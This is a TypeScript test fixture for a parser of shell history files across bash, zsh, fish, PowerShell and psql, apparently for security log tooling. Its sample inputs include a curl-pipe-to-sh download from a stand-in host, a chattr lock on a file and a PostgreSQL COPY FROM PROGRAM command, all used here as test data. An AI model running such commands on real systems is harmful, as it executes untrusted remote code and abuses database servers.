import type { LogFormatFixture } from '../../../tests/fixture.ts';

const time = '2026-11-23T16:00:00.000Z';
const linux = { product: 'linux', service: 'history' };

export const fixture: LogFormatFixture = {
  fires: [
    {
      name: 'bash with times, under any name',
      file: 'copy-of-history',
      input: '#1795449600\ncurl -s http://example.com/x.sh | sh\n#1795449660\nchattr +i /tmp/x\n',
      expect: [
        { source: linux, time, fields: { CommandLine: 'curl -s http://example.com/x.sh | sh', shell: 'bash' } },
        { time: '2026-11-23T16:01:00.000Z', fields: { CommandLine: 'chattr +i /tmp/x' } },
      ],
    },
    {
      name: 'bash without times, with one from somewhere and a comment',
      file: 'root/.bash_history',
      input: 'ls\n\n# a note\n#1795449600\nid\nw',
      expect: [
        { source: linux, fields: { CommandLine: 'ls' } },
        { fields: { CommandLine: '# a note' } },
        { time, fields: { CommandLine: 'id' } },
        { fields: { CommandLine: 'w' } },
      ],
    },
    {
      name: 'zsh, a command of two lines and a letter that it hides',
      file: '.zsh_history',
      input: Uint8Array.from([
        ...Buffer.from(': 1795449600:0;echo a \\\nb\n: 1795449660:5;echo '),
        ...[0xe2, 0x83, 0xa0, 0x94],
        ...Buffer.from('\nls\n'),
      ]),
      expect: [
        { source: linux, time, fields: { CommandLine: 'echo a \nb', shell: 'zsh' } },
        { time: '2026-11-23T16:01:00.000Z', fields: { CommandLine: 'echo \u2014' } },
        { fields: { CommandLine: 'ls' } },
      ],
    },
    {
      name: 'fish',
      file: 'fish_history',
      input: '- cmd: for i in a\\nb\\\\n\n  when: 1795449600\n  paths:\n    - a\n- cmd: ls\n  when: 1795449660\n',
      expect: [
        { source: linux, time, fields: { CommandLine: 'for i in a\nb\\n', shell: 'fish' } },
        { time: '2026-11-23T16:01:00.000Z', fields: { CommandLine: 'ls' } },
      ],
    },
    {
      name: 'PowerShell',
      file: 'PSReadLine/ConsoleHost_history.txt',
      input: '\ufeffwhoami\r\nif (1) {`\r\nls }\r\n',
      expect: [
        { source: { product: 'windows', service: 'history' }, fields: { CommandLine: 'whoami', shell: 'powershell' } },
        { fields: { CommandLine: 'if (1) {\nls }' } },
      ],
    },
    {
      name: 'a database’s client',
      file: '.psql_history',
      input: "COPY t FROM PROGRAM 'id';\n",
      expect: [{ source: linux, fields: { CommandLine: "COPY t FROM PROGRAM 'id';", shell: 'psql' } }],
    },
  ],
  silent: [
    { name: 'a script', input: '#!/bin/sh\nls\n' },
    { name: 'a comment with a number', input: '#1795449600 is a time\nls\n' },
    { name: 'a list', input: '- cmd: ls\n- cmd: id\n' },
    { name: 'a history that is none', file: 'history.db', input: 'SQLite format 3\0' },
    { name: 'notes', file: 'release_history.txt', input: 'first\nsecond\n' },
    { name: 'nothing', file: '.bash_history', input: '' },
  ],
};
